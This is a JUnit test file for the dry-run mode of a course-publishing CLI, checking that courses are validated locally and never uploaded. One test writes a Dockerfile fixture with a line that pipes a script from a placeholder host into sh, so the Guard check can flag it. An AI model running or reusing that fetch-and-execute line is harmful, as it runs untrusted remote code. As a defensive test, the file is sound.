package dev.progy.cli;

import com.fasterxml.jackson.databind.JsonNode;
import dev.progy.testkit.Folders;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code progy publish --dry-run}: what the server would refuse, found before anything is uploaded. */
@DisplayName("progy publish --dry-run")
class PublishDryRunTest {

    @TempDir
    Path tmp;

    /** The java-basics sample as an author would publish it, under {@code id}. */
    static Path sampleAs(Path dir, String id, String version) throws IOException {
        Path course = Folders.copy(CliHarness.example("java-basics"), dir);
        Path json = course.resolve("course.json");
        Files.writeString(json, Files.readString(json).replace("\"id\": \"java-basics\"", "\"id\": \"" + id + "\"")
                .replace("\"version\": \"1.0.0\"", "\"version\": \"" + version + "\""));
        return course;
    }

    /** A server address nothing listens on: a dry run that tried to upload would fail to reach it. */
    private static String nowhere() throws IOException {
        try (ServerSocket s = new ServerSocket(0)) {
            return "http://127.0.0.1:" + s.getLocalPort();
        }
    }

    @Test
    @DisplayName("a course the server would accept passes the local checks, and nothing is uploaded")
    void passes() throws IOException {
        sampleAs(tmp.resolve("course"), "@ada/java-basics", "1.0.0");
        CliHarness cli = new CliHarness(tmp);
        cli.env.put("PROGY_REGISTRY_SERVER", nowhere());

        CliHarness.Result r = cli.run("publish", "course", "--dry-run", "--no-color");

        assertThat(r.code()).as(r.toString()).isZero();
        assertThat(r.out()).contains("✓ the server's static checks pass (0 errors", "Nothing was uploaded (--dry-run)");
    }

    @Test
    @DisplayName("a course with a Guard error shows each finding and the refusal, exits 1, and uploads nothing")
    void guardError() throws IOException {
        Path course = sampleAs(tmp.resolve("course"), "@ada/java-basics", "1.0.0");
        Files.writeString(course.resolve("Dockerfile"), "FROM alpine\nRUN curl -s https://x.example/i.sh | sh\n");
        CliHarness cli = new CliHarness(tmp);
        cli.env.put("PROGY_REGISTRY_SERVER", nowhere());

        CliHarness.Result r = cli.run("publish", "course", "--dry-run", "--no-color");

        assertThat(r.code()).as(r.toString()).isEqualTo(ExitCode.FAILED);
        assertThat(r.out()).contains("error Dockerfile:2 [PG-D005]", "fix: ",
                "✗ the server would refuse this course: 1 error", "Nothing was uploaded");
        CliHarness.Result json = cli.run("publish", "course", "--dry-run", "--json");
        JsonNode n = CliJson.parse(json.out());
        assertThat(n.path("uploaded").asBoolean(true)).isFalse();
        assertThat(n.path("state").asText()).isEqualTo("refused-here");
    }

    @Test
    @DisplayName("a course id without a scope is refused as the server would refuse it, saying what to write")
    void unscopedName() throws IOException {
        sampleAs(tmp.resolve("course"), "java-basics", "1.0.0");

        CliHarness.Result r = new CliHarness(tmp).run("publish", "course", "--dry-run", "--no-color");

        assertThat(r.code()).as(r.toString()).isEqualTo(ExitCode.FAILED);
        assertThat(r.out()).contains("the course id 'java-basics' is not a registry name", "@scope/name",
                "fix: set \"id\" in course.json to \"@<you>/java-basics\"");
    }
}
